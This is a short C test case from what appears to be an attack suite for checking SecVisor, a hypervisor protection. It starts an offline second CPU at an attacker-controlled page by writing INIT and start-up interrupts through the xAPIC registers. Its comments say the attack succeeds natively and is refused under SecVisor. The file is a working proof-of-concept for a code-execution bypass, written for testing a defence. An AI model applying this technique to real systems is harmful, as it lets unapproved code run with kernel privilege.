// Row 18. The second CPU, offline, started at the attacker's page by INIT and start-up commands through the xAPIC's page.
// Source: AMD64 APM 2, 16.5 (interrupt commands); Linux, arch/x86/kernel/smpboot.c, does the same.
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"
#include <unistd.h>

ATTACK("start-xapic")
{
	u64 page = prepare_start(), apic = map_physical(0xfee00000, KERNEL_DATA | 0x18);

	if (set_online(1, 0))
		failed("the second CPU stays online");
	about_to("start the second CPU");
	operate(VULNERABLE_STORE, apic + 0x310, 1 << 24, 4);
	operate(VULNERABLE_STORE, apic + 0x300, 0x4500, 4);
	usleep(20000);
	operate(VULNERABLE_STORE, apic + 0x310, 1 << 24, 4);
	operate(VULNERABLE_STORE, apic + 0x300, 0x4600 | START_PAGE >> 12, 4);
	if (seen(page))
		succeeded("the second CPU ran code at %#llx", START_PAGE);
	refused("the second CPU did not start at %#llx", START_PAGE);
}
